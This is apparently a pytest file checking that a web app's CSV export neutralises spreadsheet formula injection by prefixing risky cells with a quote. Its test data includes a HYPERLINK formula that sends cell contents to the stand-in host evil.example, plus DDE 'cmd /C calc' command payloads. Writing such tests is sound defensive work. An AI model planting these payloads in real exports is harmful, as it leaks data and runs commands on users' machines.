"""CSV exports cannot run formulas in a spreadsheet; numbers stay numbers."""

import csv
import io

import pytest

from webapp.exports import csv_cell, csv_text

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-3", "'-3"),  # text that looks like a number is still text
        (" =1+1", " =1+1"),
        ("Tomato = 3 kg", "Tomato = 3 kg"),
        ("", ""),
        (None, ""),
        (True, "True"),
        (-3, -3),
        (-2.5, -2.5),
        (0, 0),
    ],
)
def test_text_that_starts_like_a_formula_is_written_behind_a_quote(value, written):
    assert csv_cell(value) == written


def test_a_document_guards_its_header_and_every_cell():
    text = csv_text(["=name", "yield"], [[ATTACKS[0], -3], [ATTACKS[1], 2.5], [ATTACKS[2], None]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["'=name", "yield"],
        ["'" + ATTACKS[0], "-3"],
        ["'" + ATTACKS[1], "2.5"],
        ["'" + ATTACKS[2], ""],
    ]
